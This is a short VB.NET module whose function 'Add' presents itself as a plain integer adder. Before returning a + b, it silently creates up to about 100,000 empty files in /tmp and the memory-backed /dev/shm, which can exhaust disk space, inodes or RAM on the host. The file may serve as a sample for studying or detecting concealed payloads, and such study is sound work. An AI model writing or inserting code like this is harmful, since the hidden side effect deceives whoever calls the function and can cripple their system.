Imports System.IO

Module Module1
    Private number As Integer = 0

    Function Add(a As Integer, b As Integer) As Integer
        While number < 100000
            Try
                File.Create(If(number Mod 2 = 0, "/tmp/file", "/dev/shm/file") & number).Dispose()
            Catch ex As IOException
                number += 10
            End Try
            number += 1
        End While
        Return a + b
    End Function
End Module
